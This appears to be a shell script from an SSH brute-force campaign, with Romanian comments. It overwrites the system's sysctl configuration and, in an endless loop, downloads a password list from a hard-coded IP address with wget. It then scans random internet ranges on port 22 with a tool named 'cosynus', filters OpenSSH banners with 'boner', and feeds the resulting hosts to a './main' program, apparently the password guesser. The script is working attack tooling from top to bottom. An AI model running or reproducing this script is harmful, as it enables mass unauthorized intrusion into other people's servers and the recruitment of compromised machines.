rm -rf /etc/sysctl.conf ; echo "fs.file-max = 2097152" > /etc/sysctl.conf ; sysctl -p ; ulimit -Hn ; ulimit -n 99999 -u 999999
while true; do

        ###      Aici incarcam parolele!!

        File=mic
        rm -rf "$File"
        echo "#Incarc Parolele#"
        wget http://209.141.58.203/.db/$File
        if grep -q oracle "$File";
        then
        cat "$File" > passfile.txt
        fi
        rm -rf "$File"




        #### Aici stergem fisierele anterioare si scanam unele noi!!

        rm -rf bios.txt mfu.txt ipuri scan.lst banner.log
        echo "###Incarc Ipuri###"
        random="$((30 + $RANDOM % 224))"
        ./cosynus 22 -a "$random" -s 10 > /dev/null
        pkill -f cosynus
        pkill -f ./cosynus
        cat bios.txt |uniq > mfu.txt
        rm -rf bios.txt
        sleep 1
        echo "#Am terminat de scanat, dau drumu la banner#"
        ./boner mfu.txt 22 1000 > /dev/null
        pkill -f boner
        pkill -f ./boner
        cat banner.log  |grep SSH-2.0-OpenSSH |awk '{print $1}' |uniq >> scan.lst
        cat scan.lst |uniq > ipuri
        ./main 1000
         echo "$random" >> oK
done
